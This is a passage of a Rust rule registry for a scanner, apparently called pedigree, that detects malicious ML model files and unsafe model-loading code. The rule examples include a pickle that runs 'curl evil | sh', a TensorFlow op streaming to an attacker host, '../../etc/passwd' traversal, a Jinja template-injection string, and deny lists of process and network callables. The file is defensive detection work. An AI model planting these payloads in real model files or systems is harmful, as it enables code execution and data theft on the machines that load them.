//! The rule registry: every finding pedigree can report, with its documentation.
//!
//! Each rule has a stable id (`PDG` + number), a short kebab-case name, a default severity (a
//! policy may override it), and docs in the shape "what it finds / why it matters / example /
//! how to fix", with references. `pedigree rules` prints them and `docs/rules.md` is generated
//! from them (see `render_markdown`).

use crate::severity::Severity;

#[derive(Debug, Clone, Copy, serde::Serialize)]
pub struct Rule {
    pub id: &'static str,
    pub name: &'static str,
    pub severity: Severity,
    pub summary: &'static str,
    pub what: &'static str,
    pub why: &'static str,
    pub example: &'static str,
    pub fix: &'static str,
    pub references: &'static [&'static str],
}

pub const PICKLE_DANGEROUS_GLOBAL: &str = "PDG101";
pub const PICKLE_UNKNOWN_GLOBAL: &str = "PDG102";
pub const PICKLE_MALFORMED: &str = "PDG103";
pub const PICKLE_FRAME_DIVERGENCE: &str = "PDG104";
pub const PICKLE_EXT_CODE: &str = "PDG105";
pub const PICKLE_RESOURCE_EXHAUSTION: &str = "PDG106";
pub const PICKLE_TRAILING_DATA: &str = "PDG107";
pub const PICKLE_LAUNDERED_CALL: &str = "PDG108";
pub const ZIP_BAD_CRC: &str = "PDG201";
pub const ZIP_ENCRYPTION_FLAG: &str = "PDG202";
pub const ZIP_NAME_MISMATCH: &str = "PDG203";
pub const ZIP_DUPLICATE_NAME: &str = "PDG204";
pub const ZIP_PREPENDED_DATA: &str = "PDG205";
pub const ARCHIVE_LIMITS: &str = "PDG206";
pub const ENCRYPTED_MEMBER: &str = "PDG207";
pub const EXTENSION_MISMATCH: &str = "PDG208";
pub const LEGACY_TORCH: &str = "PDG209";
pub const UNSAFE_MEMBER_PATH: &str = "PDG210";
pub const MALFORMED_CONTAINER: &str = "PDG211";
pub const KERAS_LAMBDA: &str = "PDG301";
pub const KERAS_LAMBDA_DANGEROUS: &str = "PDG302";
pub const KERAS_CUSTOM_OBJECT: &str = "PDG303";
pub const KERAS_DANGEROUS_REFERENCE: &str = "PDG304";
pub const TF_PYTHON_OP: &str = "PDG311";
pub const TF_FILE_OP: &str = "PDG312";
pub const TF_NETWORK_OP: &str = "PDG313";
pub const ONNX_EXTERNAL_DATA_ESCAPE: &str = "PDG321";
pub const ONNX_CUSTOM_DOMAIN: &str = "PDG322";
pub const ONNX_TENSOR_SIZE: &str = "PDG323";
pub const CHAT_TEMPLATE_ESCAPE: &str = "PDG331";
pub const CHAT_TEMPLATE_UNPARSABLE: &str = "PDG332";
pub const SAFETENSORS_HEADER: &str = "PDG341";
pub const SAFETENSORS_LAYOUT: &str = "PDG342";
pub const HF_REMOTE_CODE: &str = "PDG351";
pub const HF_REMOTE_CODE_DANGEROUS_CALL: &str = "PDG352";
pub const HF_REMOTE_CODE_UNREADABLE: &str = "PDG353";
pub const MODEL_FORMAT_MALFORMED: &str = "PDG391";
// PDG6xx: `pedigree hygiene`, unsafe model loading in the code that consumes models.
pub const HYG_TORCH_LOAD_UNSAFE: &str = "PDG601";
pub const HYG_TORCH_LOAD_DEFAULT: &str = "PDG602";
pub const HYG_PICKLE_LOAD: &str = "PDG603";
pub const HYG_NUMPY_ALLOW_PICKLE: &str = "PDG604";
pub const HYG_KERAS_UNSAFE_MODE: &str = "PDG605";
pub const HYG_TRUST_REMOTE_CODE: &str = "PDG606";
pub const HYG_UNPINNED_REVISION: &str = "PDG607";
pub const HYG_UNVETTED_MODEL: &str = "PDG608";
pub const HYG_REVISION_NOT_APPROVED: &str = "PDG609";
pub const HYG_TYPOSQUAT: &str = "PDG610";
pub const HYG_PICKLE_WEIGHTS_DOWNLOAD: &str = "PDG611";
pub const HYG_TORCH_HUB_UNPINNED: &str = "PDG612";

const CWE502: &str = "CWE-502: Deserialization of Untrusted Data";

pub static RULES: &[Rule] = &[
    Rule {
        id: PICKLE_DANGEROUS_GLOBAL,
        name: "pickle-dangerous-global",
        severity: Severity::Critical,
        summary: "A pickle imports or calls a known-dangerous Python callable",
        what: "The pickle stream names a global on the deny list: process execution (os, subprocess, pty), \
               code execution (eval, exec, compile, runpy, code, marshal with FunctionType), the import \
               machinery, network and file access, FFI (ctypes), installers (pip), call-laundering \
               helpers (functools.partial, operator.attrgetter, getattr) or loaders that unpickle again \
               (torch.storage._load_from_bytes, pickle.loads). Names are normalised the way CPython's \
               find_class does (the _compat_pickle tables under protocols < 3) and dotted names are judged \
               by what they finally reach (pathlib + os.system reaches os.system).",
        why: "Loading the file (pickle.load, torch.load with weights_only=False, joblib.load, np.load with \
              allow_pickle=True) imports the module and calls the function: arbitrary code runs on the \
              machine that loads the model.",
        example: "GLOBAL 'posix system' + REDUCE(('curl evil | sh',)) in a PyTorch checkpoint's data.pkl.",
        fix: "Do not load the file. Obtain the model from a trusted source, prefer safetensors, and load \
              PyTorch files with torch.load(weights_only=True).",
        references: &[
            CWE502,
            "CVE-2025-1716 (pip.main gadget)",
            "CVE-2025-10157 (children of a listed module)",
            "CVE-2024-3660",
        ],
    },
    Rule {
        id: PICKLE_UNKNOWN_GLOBAL,
        name: "pickle-unknown-global",
        severity: Severity::Medium,
        summary: "A pickle imports a global that is neither known-safe nor known-dangerous",
        what: "The stream imports a module attribute that is on neither the allow list (tensor and storage \
               rebuilders, numpy reconstruction, OrderedDict, scikit-learn estimator classes ...) nor the \
               deny list.",
        why: "Importing runs the module's top-level code and calling the attribute can do anything; a \
              deny list can never be complete (\"The Art of Hide and Seek\" counts 133 gadgets). Unknown \
              names deserve a human look.",
        example: "GLOBAL '__main__ MyModel' from a whole-module torch.save, or a third-party helper.",
        fix: "If the global is expected and trusted, add it to `allow` in pedigree.toml; otherwise treat the \
              file as untrusted. Add confirmed-dangerous names to `deny`.",
        references: &[CWE502],
    },
    Rule {
        id: PICKLE_MALFORMED,
        name: "pickle-malformed",
        severity: Severity::Medium,
        summary: "The pickle stream is malformed or truncated",
        what: "The unpickler would raise part-way: an invalid opcode, a bad argument, a stack or mark error, \
               a missing memo entry, or the end of the data before STOP.",
        why: "CPython runs every opcode before the error, so calls made before the break have already \
              happened; a payload followed by garbage (nullifAI) makes scanners that stop at the first \
              error call the file clean. pedigree reports what came before the break and resynchronises \
              after it.",
        example: "GLOBAL os system, REDUCE, then random bytes instead of STOP.",
        fix: "Treat the file as corrupt or hostile; a legitimate serializer never writes it.",
        references: &[CWE502, "nullifAI (ReversingLabs, 2025)"],
    },
    Rule {
        id: PICKLE_FRAME_DIVERGENCE,
        name: "pickle-frame-divergence",
        severity: Severity::High,
        summary: "FRAME handling makes different unpicklers read different opcodes",
        what: "A read straddles the end of a protocol-4 FRAME, a FRAME starts before the previous one is \
               used up, or a FRAME runs past the data. CPython's C unpickler over a file object drops the \
               rest of a frame on a straddling read, while pickletools and pickle.loads read straight \
               through: the bytes decode to different programs.",
        why: "A scanner that reads like pickletools sees a harmless stream while torch.load (which reads \
              data.pkl through BytesIO) runs hidden opcodes.",
        example: "A 128 KiB frame whose last bytes are the start of a string argument that hides GLOBAL \
                  builtins print.",
        fix: "Do not load the file; no serializer writes frames that straddle arguments.",
        references: &[CWE502, "CPython gh-154848"],
    },
    Rule {
        id: PICKLE_EXT_CODE,
        name: "pickle-ext-code",
        severity: Severity::Medium,
        summary: "The pickle uses an EXT1/EXT2/EXT4 extension code",
        what: "EXT opcodes import a global through copyreg's extension registry, which is empty by default \
               but can be filled by code the host ran earlier.",
        why: "The global it names cannot be known statically; no ML serializer emits EXT codes.",
        example: "EXT1 0xC8 after a host called copyreg.add_extension('os', 'system', 200).",
        fix: "Treat as untrusted.",
        references: &[CWE502],
    },
    Rule {
        id: PICKLE_RESOURCE_EXHAUSTION,
        name: "pickle-resource-exhaustion",
        severity: Severity::High,
        summary: "The pickle would exhaust memory or time in the loader, or hit a scan limit",
        what: "A memo index so large that CPython's dense memo allocates gigabytes (LONG_BINPUT 0xFFFFFFFF), \
               a declared length far beyond the data, or a stream that exceeds pedigree's limits (opcodes, \
               stack, memo, nesting).",
        why: "A denial of service on any service that loads models; and content past a limit is not scanned.",
        example: "LONG_BINPUT 4294967295 asks CPython for about 64 GiB.",
        fix: "Do not load the file.",
        references: &["CWE-400: Uncontrolled Resource Consumption"],
    },
    Rule {
        id: PICKLE_TRAILING_DATA,
        name: "pickle-trailing-data",
        severity: Severity::Low,
        summary: "Data follows the pickle's STOP",
        what: "Bytes remain after the last STOP: another pickle (stacked pickles, which repeated \
               pickle.load calls run) or unexplained data.",
        why: "Some loaders read several pickles from one file; scanners that stop at the first STOP miss \
              what follows.",
        example: "A benign pickle followed by a second pickle that calls os.system.",
        fix: "Inspect what follows (pedigree scans it); legitimate files rarely carry it.",
        references: &[CWE502],
    },
    Rule {
        id: PICKLE_LAUNDERED_CALL,
        name: "pickle-laundered-call",
        severity: Severity::High,
        summary: "A pickle calls something that is not a plain global",
        what: "REDUCE, NEWOBJ, OBJ or INST calls a value that was itself produced by a call or an attribute \
               lookup (for example getattr(module, 'system')), so the function finally called is not \
               visible as a global.",
        why: "This is how payloads hide the dangerous name from deny lists.",
        example: "GLOBAL builtins getattr; REDUCE((GLOBAL os, 'system')); REDUCE(('id',)).",
        fix: "Do not load the file.",
        references: &[CWE502],
    },
    Rule {
        id: ZIP_BAD_CRC,
        name: "zip-bad-crc",
        severity: Severity::Medium,
        summary: "A zip member's data does not match its CRC-32",
        what: "The stored CRC-32 of a member differs from its data.",
        why: "Python's zipfile raises on it, so zipfile-based scanners fail, while PyTorch's reader never \
              checks CRCs and loads the file (CVE-2025-10156).",
        example: "A torch checkpoint whose data.pkl was edited after saving.",
        fix: "Treat the file as tampered.",
        references: &["CVE-2025-10156"],
    },
    Rule {
        id: ZIP_ENCRYPTION_FLAG,
        name: "zip-encryption-flag",
        severity: Severity::Medium,
        summary: "A zip member has encryption/patch flag bits set",
        what: "General-purpose flag bits 0x1, 0x20 or 0x40 are set in the local or central header.",
        why: "Python's zipfile refuses such members, so scanners built on it skip the file; bits only in the \
              local header are ignored by both Python and torch, which still load the data \
              (CVE-2025-1945).",
        example: "data.pkl with flag 0x1 in its local header and plain stored data.",
        fix: "Treat the file as tampered.",
        references: &["CVE-2025-1945"],
    },
    Rule {
        id: ZIP_NAME_MISMATCH,
        name: "zip-name-mismatch",
        severity: Severity::Medium,
        summary: "A zip member's local header names a different file than the central directory",
        what: "The local file header and the central-directory entry disagree about the member name.",
        why: "Python's zipfile raises, while torch loads using the central-directory name (CVE-2025-1944).",
        example: "Central directory says archive/data.pkl, local header says archive/data.pkx.",
        fix: "Treat the file as tampered.",
        references: &["CVE-2025-1944"],
    },
    Rule {
        id: ZIP_DUPLICATE_NAME,
        name: "zip-duplicate-member",
        severity: Severity::High,
        summary: "Two zip members have the same name",
        what: "The central directory lists the same name twice.",
        why: "PyTorch's reader takes the first entry and Python's zipfile the last: a scanner and a loader \
              can read different data.pkl files. pedigree scans both.",
        example: "A benign archive/data.pkl followed by a malicious one.",
        fix: "Treat the file as tampered.",
        references: &[CWE502],
    },
    Rule {
        id: ZIP_PREPENDED_DATA,
        name: "zip-prepended-data",
        severity: Severity::Medium,
        summary: "Bytes precede the zip archive",
        what: "The archive does not start at offset 0.",
        why: "Python's zipfile tolerates it, torch does not: the file can be a different thing to different \
              readers (a polyglot).",
        example: "A pickle followed by a zip archive.",
        fix: "Treat the file as tampered.",
        references: &[],
    },
    Rule {
        id: ARCHIVE_LIMITS,
        name: "archive-limits",
        severity: Severity::High,
        summary: "An archive exceeds decompression or size limits",
        what: "A member or stream decompresses past the size or ratio limit, the archive has more members \
               than the limit, or archives nest deeper than the limit. Reading stopped there.",
        why: "Decompression bombs exhaust disk and memory; and what lies past the limit was not scanned.",
        example: "A 100 KB deflate member that expands to 64 MiB of zeros.",
        fix: "Do not extract the archive; raise the limits only for trusted input.",
        references: &["CWE-409: Improper Handling of Highly Compressed Data"],
    },
    Rule {
        id: ENCRYPTED_MEMBER,
        name: "encrypted-member",
        severity: Severity::Medium,
        summary: "An archive member is encrypted and cannot be scanned",
        what: "The member's data is encrypted.",
        why: "Its content is unknown to the scanner.",
        example: "A password-protected 7z holding a pickle.",
        fix: "Decrypt it and scan the content, or reject it.",
        references: &[],
    },
    Rule {
        id: EXTENSION_MISMATCH,
        name: "extension-mismatch",
        severity: Severity::Medium,
        summary: "The file extension promises one format and the bytes are another",
        what: "The content was sniffed as a different format than its extension claims.",
        why: "Tools that dispatch on the name skip the real content (CVE-2025-1889); a .safetensors that is \
              a zip of pickles is a lie.",
        example: "model.npy that is a plain pickle.",
        fix: "Rename the file after its real format, or reject it.",
        references: &["CVE-2025-1889", "CVE-2025-10155"],
    },
    Rule {
        id: LEGACY_TORCH,
        name: "legacy-torch-format",
        severity: Severity::Info,
        summary: "Legacy (pre-1.6) PyTorch serialization",
        what: "The file uses the legacy stream or tar layout of torch.save.",
        why: "Its magic number is itself unpickled before it is checked, and weights_only refuses the tar \
              layout; it is worth converting.",
        example: "torch.save(obj, f, _use_new_zipfile_serialization=False).",
        fix: "Re-save with a current torch, or convert to safetensors.",
        references: &[],
    },
    Rule {
        id: UNSAFE_MEMBER_PATH,
        name: "unsafe-member-path",
        severity: Severity::High,
        summary: "An archive member's path escapes the extraction directory or is a link",
        what: "A member path is absolute, climbs out with '..', or is a symbolic link.",
        why: "Extracting it writes outside the target directory (path traversal).",
        example: "../../home/user/.bashrc inside a tar.",
        fix: "Do not extract the archive.",
        references: &["CWE-22: Path Traversal"],
    },
    Rule {
        id: MALFORMED_CONTAINER,
        name: "malformed-container",
        severity: Severity::Medium,
        summary: "A container (zip, tar, npy, legacy torch ...) is malformed",
        what: "The container's structure is broken; parts of it could not be read.",
        why: "Loaders and scanners may disagree about broken structures; what could not be read was not \
              scanned.",
        example: "A zip whose central directory points past the end of the file.",
        fix: "Treat the file as corrupt or hostile.",
        references: &[],
    },
    // ---- Model formats beyond pickle (PDG3xx) ----
    Rule {
        id: KERAS_LAMBDA,
        name: "keras-lambda-code",
        severity: Severity::High,
        summary: "A Keras model stores a Lambda as marshalled Python bytecode",
        what: "A Lambda layer (or any function in the config: activation, output_shape, mask) is stored as \
               marshal.dumps(func.__code__), base64-encoded: Keras 3 `{\"class_name\": \"__lambda__\"}` dicts \
               and tf.keras `function_type: \"lambda\"` entries, found at any depth of nesting (nested models, \
               TimeDistributed / Bidirectional wrappers) in .keras config.json, legacy .h5 model_config and \
               SavedModel keras_metadata.pb. The message lists the names and strings the bytecode references, \
               decoded without running it.",
        why: "Loading with safe_mode=False (or with Keras < 3, or tf.keras) turns the bytecode back into a \
              function and runs it on the first call: arbitrary code in a file that looks like weights.",
        example: "Functional > Sequential > TimeDistributed > Lambda(lambda x: __import__('os').system('id') or x).",
        fix: "Replace Lambda layers by registered custom layers with source code you review; never load with \
              safe_mode=False a model you did not build.",
        references: &[
            "CVE-2024-3660",
            "CWE-94: Improper Control of Generation of Code",
        ],
    },
    Rule {
        id: KERAS_LAMBDA_DANGEROUS,
        name: "keras-lambda-dangerous-names",
        severity: Severity::Critical,
        summary: "Keras Lambda bytecode references process, import, file or network machinery",
        what: "The decoded bytecode of a Lambda names something no tensor function needs: os, subprocess, \
               system, popen, eval, exec, compile, __import__, importlib, builtins, open, socket, urllib, \
               requests, shutil, pickle, marshal, ctypes ...",
        why: "This is the shape of a payload, not of a model: the code runs when the layer is first called \
              after loading.",
        example: "A Lambda whose co_names are ('__import__', 'system') and whose constants include 'os'.",
        fix: "Do not load the model. Report it to whoever published it.",
        references: &[
            "CVE-2024-3660",
            "CWE-94: Improper Control of Generation of Code",
        ],
    },
    Rule {
        id: KERAS_CUSTOM_OBJECT,
        name: "keras-custom-object",
        severity: Severity::Medium,
        summary: "A Keras config names a class or function from a module outside Keras",
        what: "An object in the config (`module` + `class_name`, or a named function with its module) comes \
               from a module other than keras, keras_hub, keras_cv, keras_nlp, tf_keras or tensorflow.",
        why: "The loader imports that module to rebuild the object (custom objects or safe_mode=False); its \
              code runs at load time and is not part of the file you scanned.",
        example: "{\"module\": \"my_layers\", \"class_name\": \"Attention\", \"registered_name\": \"Custom>Attention\"}.",
        fix: "Make sure the module is code you trust and have reviewed; pass it explicitly as custom_objects.",
        references: &["CVE-2025-1550"],
    },
    Rule {
        id: KERAS_DANGEROUS_REFERENCE,
        name: "keras-dangerous-reference",
        severity: Severity::Critical,
        summary: "A Keras config resolves a dangerous callable by module and name",
        what: "An object or named function in the config points at process, code-execution, import, file or \
               network machinery (os.system, subprocess.Popen, builtins.eval, importlib.import_module ...).",
        why: "Deserialisation imports the module and calls the object with attacker-chosen arguments \
              (the CVE-2025-1550 safe_mode bypass).",
        example: "{\"module\": \"os\", \"class_name\": \"system\", \"config\": {...}} or a Lambda with \
                  function_type \"function\", function \"system\", module \"os\".",
        fix: "Do not load the model.",
        references: &[
            "CVE-2025-1550",
            "CWE-502: Deserialization of Untrusted Data",
        ],
    },
    Rule {
        id: TF_PYTHON_OP,
        name: "tf-python-op",
        severity: Severity::Critical,
        summary: "A TensorFlow graph calls back into Python (PyFunc, EagerPyFunc)",
        what: "A node of the graph, or of a function in its function library, runs PyFunc, \
               PyFuncStateless or EagerPyFunc.",
        why: "These ops call whatever Python function is registered under their token in the loading process; \
              a model that needs them is not self-contained and is a known code-execution vector.",
        example: "saved_model.pb whose __inference function holds an EagerPyFunc node.",
        fix: "Do not serve the model; re-export it without tf.py_function / tf.numpy_function.",
        references: &["CWE-94: Improper Control of Generation of Code"],
    },
    Rule {
        id: TF_FILE_OP,
        name: "tf-file-op",
        severity: Severity::High,
        summary: "A TensorFlow graph reads or writes files",
        what: "A node (top level or inside a library function) runs ReadFile, WriteFile, MatchingFiles, a file \
               reader or record dataset, ImmutableConst, a summary file writer, or PrintV2 into a file:// \
               stream. The checkpoint ops every SavedModel carries (SaveV2, RestoreV2, MergeV2Checkpoints) \
               are not reported.",
        why: "Serving the model reads or overwrites files on the server (secrets, other models, configuration).",
        example: "A graph that ReadFile('/etc/passwd') and returns it as an output tensor.",
        fix: "Inspect the graph; models have no business touching the file system at inference time.",
        references: &["CWE-73: External Control of File Name or Path"],
    },
    Rule {
        id: TF_NETWORK_OP,
        name: "tf-network-op",
        severity: Severity::High,
        summary: "A TensorFlow graph talks to the network",
        what: "A node runs an RPC op (Rpc, TryRpc, RpcClient ...) or a debugger op that streams tensors to \
               debug_urls (DebugIdentity, DebugNumericSummary ...).",
        why: "Inputs and outputs can be sent to a remote host when the model runs.",
        example: "DebugIdentity with debug_urls ['grpc://attacker:6064'].",
        fix: "Re-export the model without debugging or RPC ops.",
        references: &["CWE-200: Exposure of Sensitive Information"],
    },
    Rule {
        id: ONNX_EXTERNAL_DATA_ESCAPE,
        name: "onnx-external-data-escape",
        severity: Severity::Critical,
        summary: "ONNX external data points outside the model's directory",
        what: "A tensor's external_data `location` is an absolute path, climbs out of the model's directory \
               with `..`, or resolves through a symlink to a file outside it.",
        why: "Loaders that do not check (older onnx, other runtimes) read that file into the model's weights, \
              leaking it through the model's outputs, or fail on special files.",
        example: "external_data {location: \"../../etc/passwd\"}.",
        fix: "Keep external data files beside the model, named by relative paths inside its directory.",
        references: &["GHSA-538c-55jv-c5g9", "CWE-22: Path Traversal"],
    },
    Rule {
        id: ONNX_CUSTOM_DOMAIN,
        name: "onnx-custom-op-domain",
        severity: Severity::High,
        summary: "An ONNX model uses operators from a custom domain",
        what: "opset_import or a node names a domain that neither onnx nor onnxruntime ships (and that is not a \
               model-local function domain).",
        why: "Running the model needs a custom-op library: native code that the runtime loads.",
        example: "A node with domain \"com.evil.ops\" and op_type \"Exec\".",
        fix: "Find out which library provides the domain and whether you trust it.",
        references: &["onnxruntime custom operators"],
    },
    Rule {
        id: ONNX_TENSOR_SIZE,
        name: "onnx-tensor-size",
        severity: Severity::Medium,
        summary: "An ONNX tensor's stored size disagrees with its shape",
        what: "raw_data, the typed data fields or the external `length` do not hold dims × element size.",
        why: "Runtimes that trust one of the two read out of bounds or refuse the model; a producer never \
              writes it.",
        example: "A float tensor of dims [2, 2] with 12 bytes of raw_data.",
        fix: "Re-export the model.",
        references: &["CWE-130: Improper Handling of Length Parameter Inconsistency"],
    },
    Rule {
        id: CHAT_TEMPLATE_ESCAPE,
        name: "chat-template-escape",
        severity: Severity::Critical,
        summary: "A Jinja chat template reaches Python internals (template injection)",
        what: "A chat template (GGUF tokenizer.chat_template*, tokenizer_config.json chat_template), judged on \
               its parsed syntax tree, reads private or dunder attributes (__class__, __mro__, \
               __subclasses__, __globals__ ...), also through |attr or names built from constants, reaches \
               Jinja/Flask globals (lipsum, cycler, joiner, self ...) or Python modules, calls methods that run \
               processes or touch files (popen, system, read, write ...), or uses str.format field lookups.",
        why: "Loaders that render templates without a sandbox (llama-cpp-python before its fix, vLLM, SGLang) \
              run the payload on every chat request.",
        example: "{{ ''.__class__.__mro__[1].__subclasses__() }} in tokenizer.chat_template.",
        fix: "Do not serve the model; replace the template with the family's official one.",
        references: &["CVE-2024-34359", "CVE-2026-5760", "CVE-2024-56326"],
    },
    Rule {
        id: CHAT_TEMPLATE_UNPARSABLE,
        name: "chat-template-unparsable",
        severity: Severity::Medium,
        summary: "A chat template could not be parsed as Jinja",
        what: "The template is not valid Jinja (or is over the size limit), so it could not be judged.",
        why: "It cannot be shown safe; the renderer may accept what our parser refuses.",
        example: "An unterminated {% for %} block.",
        fix: "Look at the template by hand.",
        references: &[],
    },
    Rule {
        id: SAFETENSORS_HEADER,
        name: "safetensors-header",
        severity: Severity::High,
        summary: "A safetensors header is oversized, out of the file, not JSON, or has non-string metadata",
        what: "The 8-byte header length is over 100 MB or past the end of the file, the header is not UTF-8 \
               JSON of the expected shape, or __metadata__ holds values that are not strings.",
        why: "An oversized header length is a denial of service on loaders that allocate it; a header that \
              does not parse means the file is not what its name says.",
        example: "A header length of 2^63.",
        fix: "Re-save the tensors with the safetensors library.",
        references: &["CWE-789: Memory Allocation with Excessive Size Value"],
    },
    Rule {
        id: SAFETENSORS_LAYOUT,
        name: "safetensors-layout",
        severity: Severity::Medium,
        summary: "safetensors tensor table is inconsistent (sizes, offsets, overlaps, gaps, duplicates)",
        what: "A tensor's dtype × shape does not match its byte range, a range is out of the buffer, ranges \
               overlap or leave gaps, a name appears twice (the reference loader keeps the last one), bytes \
               follow the last tensor, an entry is malformed, or whitespace precedes the header.",
        why: "Different loaders resolve these differently (aliasing tensors, hidden bytes, the last of two \
              duplicates), so the weights a scanner or reviewer sees are not the ones that run.",
        example: "Two tensors whose data_offsets overlap.",
        fix: "Re-save the tensors with the safetensors library.",
        references: &["safetensors README (format rules)"],
    },
    Rule {
        id: HF_REMOTE_CODE,
        name: "hf-remote-code",
        severity: Severity::High,
        summary: "A Hugging Face repository needs trust_remote_code: it runs its own Python",
        what: "config.json or tokenizer_config.json has an auto_map entry: transformers imports the named \
               module (modeling_*.py, tokenization_*.py ...) from the repository, or from another repository \
               for `org/repo--module.Class`, when loaded with trust_remote_code=True.",
        why: "That Python runs with the user's privileges on load; it is code, not weights.",
        example: "\"auto_map\": {\"AutoModelForCausalLM\": \"modeling_x.XForCausalLM\"}.",
        fix: "Review the referenced Python (pedigree reports risky calls in it as PDG352), pin the revision, \
              or use a model supported natively by transformers.",
        references: &["transformers trust_remote_code"],
    },
    Rule {
        id: HF_REMOTE_CODE_DANGEROUS_CALL,
        name: "hf-remote-code-dangerous-call",
        severity: Severity::Critical,
        summary: "Remote code of a Hugging Face repository starts processes, uses the network, runs dynamic code or writes files",
        what: "A Python module named by auto_map, parsed with a Python parser (names resolved through its \
               imports), calls subprocess / os.system / os.exec* / pty, socket / requests / urllib, \
               eval / exec / compile / __import__ / importlib.import_module, or writes or deletes files.",
        why: "These calls run when the model is loaded with trust_remote_code=True.",
        example: "modeling_x.py: `import subprocess as sp` ... `sp.run(['curl', url])`.",
        fix: "Do not load the repository with trust_remote_code until the call is understood and justified.",
        references: &["CWE-94: Improper Control of Generation of Code"],
    },
    Rule {
        id: HF_REMOTE_CODE_UNREADABLE,
        name: "hf-remote-code-unreadable",
        severity: Severity::Medium,
        summary: "A Python module named by auto_map is missing or could not be parsed",
        what: "The module file is absent beside the config, too large, or not valid Python for our parser.",
        why: "Its code cannot be checked; a missing module may be fetched from elsewhere at load time.",
        example: "auto_map names modeling_x.XModel but modeling_x.py is not in the directory.",
        fix: "Review the code by hand.",
        references: &[],
    },
    Rule {
        id: MODEL_FORMAT_MALFORMED,
        name: "model-format-malformed",
        severity: Severity::Medium,
        summary: "A model file is malformed for its format (GGUF, ONNX, TensorFlow, Keras, HDF5)",
        what: "The reader found a structural problem: counts or strings beyond the data, an unsupported \
               version, inconsistent tensor infos, a protobuf that does not decode, or a model config that \
               does not parse.",
        why: "Loaders disagree on malformed files, and a hostile header is a denial of service; what could not \
              be read could not be scanned.",
        example: "A GGUF header claiming 2^60 metadata entries.",
        fix: "Re-export the model with its framework's own tools.",
        references: &["CWE-20: Improper Input Validation"],
    },
    Rule {
        id: HYG_TORCH_LOAD_UNSAFE,
        name: "torch-load-weights-only-false",
        severity: Severity::High,
        summary: "torch.load with weights_only=False: the file is fully unpickled",
        what: "A call of torch.load (or torch.hub.load_state_dict_from_url / torch.utils.model_zoo.load_url) \
               whose weights_only argument is False, given directly, through a variable or a **kwargs dict \
               built from literals.",
        why: "weights_only=False switches off PyTorch's restricted unpickler: every global in the \
              checkpoint's pickle is imported and called, so a poisoned checkpoint runs code on the \
              machine that loads it, on every PyTorch version.",
        example: "state = torch.load(path, weights_only=False)",
        fix: "Pass weights_only=True (add the few classes a checkpoint legitimately needs with \
              torch.serialization.add_safe_globals), or better, store weights as safetensors and load them \
              with safetensors.torch.load_file.",
        references: &[
            CWE502,
            "PyTorch docs: torch.load weights_only",
            "CVE-2025-32434",
        ],
    },
    Rule {
        id: HYG_TORCH_LOAD_DEFAULT,
        name: "torch-load-weights-only-default",
        severity: Severity::Low,
        summary: "torch.load without weights_only: safe only on PyTorch 2.6 and later",
        what: "A call of torch.load (or load_state_dict_from_url / load_url) that does not pass \
               weights_only, or passes a value that cannot be resolved statically (a parameter, an \
               unknown **kwargs).",
        why: "The default of weights_only changed from False to True in PyTorch 2.6. On an older \
              PyTorch the call unpickles everything (see PDG601); on 2.6 and later it is restricted. \
              It is reported at a lower severity than an explicit weights_only=False because it is \
              safe on current versions, but the code's safety then depends on the installed \
              version, which the code does not control (and CVE-2025-32434 showed weights_only=True \
              itself bypassed before 2.6).",
        example: "model.load_state_dict(torch.load(\"ckpt.pt\"))",
        fix: "Pass weights_only=True explicitly and require torch>=2.6 in the project's dependencies.",
        references: &[
            CWE502,
            "PyTorch 2.6 release notes (weights_only default)",
            "CVE-2025-32434",
        ],
    },
    Rule {
        id: HYG_PICKLE_LOAD,
        name: "pickle-load",
        severity: Severity::Medium,
        summary: "A pickle-based loader (pickle, dill, cloudpickle, joblib, pandas.read_pickle)",
        what: "A call of pickle.load/loads/Unpickler (also cPickle, _pickle), dill.load/loads, \
               cloudpickle.load/loads, joblib.load or pandas.read_pickle, resolved through the file's \
               imports (import pickle as p; from joblib import load).",
        why: "Every one of these runs arbitrary code from the data it reads. It is safe only on files \
              the program wrote itself; a model or artefact that came from outside (a hub, a bucket, \
              a colleague) can execute anything on load.",
        example: "clf = joblib.load(\"downloaded/model.joblib\")",
        fix: "Load models from safetensors, ONNX or skops (for scikit-learn); scan files with `pedigree \
              scan` before loading; keep pickle for data the same program wrote. Suppress a vetted call \
              with `# pedigree: ignore[PDG603]`.",
        references: &[CWE502, "Python docs: pickle (warning)", "bandit B301"],
    },
    Rule {
        id: HYG_NUMPY_ALLOW_PICKLE,
        name: "numpy-load-allow-pickle",
        severity: Severity::Medium,
        summary: "numpy.load with allow_pickle=True",
        what: "A call of numpy.load whose allow_pickle argument is True, or a value that cannot be \
               resolved. numpy.load without allow_pickle (default False) is not reported.",
        why: "With allow_pickle=True an object array in a .npy/.npz file is unpickled: a crafted file \
              runs code on load.",
        example: "arr = np.load(\"features.npy\", allow_pickle=True)",
        fix: "Leave allow_pickle at its default (False) and store numeric arrays only.",
        references: &[CWE502, "CVE-2019-6446"],
    },
    Rule {
        id: HYG_KERAS_UNSAFE_MODE,
        name: "keras-load-unsafe-mode",
        severity: Severity::High,
        summary: "keras load_model with safe_mode=False",
        what: "A call of keras.models.load_model / keras.saving.load_model (also through tf.keras and \
               tf_keras) whose safe_mode argument is False, or a value that cannot be resolved.",
        why: "safe_mode=False lets a .keras file deserialize Lambda layers, i.e. Python bytecode \
              stored in the model, which runs when the model is loaded or called.",
        example: "model = keras.models.load_model(\"m.keras\", safe_mode=False)",
        fix: "Keep safe_mode=True (the default) and replace Lambda layers with registered custom layers.",
        references: &[CWE502, "CVE-2024-3660", "CVE-2025-1550"],
    },
    Rule {
        id: HYG_TRUST_REMOTE_CODE,
        name: "trust-remote-code",
        severity: Severity::High,
        summary: "trust_remote_code=True: the model repository's Python runs on load",
        what: "Any call that passes trust_remote_code=True (directly, through a variable or a literal \
               **kwargs dict): from_pretrained, pipeline, AutoConfig, load_dataset, SentenceTransformer \
               and wrappers of them. A value passed through from a parameter is not reported there; \
               it is reported where True is written.",
        why: "transformers then imports the modeling_*.py files of the repository (and of any \
              repository its auto_map points to), fetched at load time: whoever can push to that \
              repository runs code in the loading process. Without a pinned revision the code can \
              change after it was reviewed.",
        example: "AutoModel.from_pretrained(\"someone/model\", trust_remote_code=True)",
        fix: "Use an architecture built into transformers; if remote code is unavoidable, review it, \
              pin revision= to the reviewed 40-hex commit, or vendor the code. `pedigree scan` \
              reports what the repository's code does (PDG351/PDG352).",
        references: &[
            "CWE-829: Inclusion of Functionality from Untrusted Control Sphere",
            "CWE-94",
        ],
    },
    Rule {
        id: HYG_UNPINNED_REVISION,
        name: "hub-revision-unpinned",
        severity: Severity::Medium,
        summary: "A Hugging Face Hub load without a pinned commit revision",
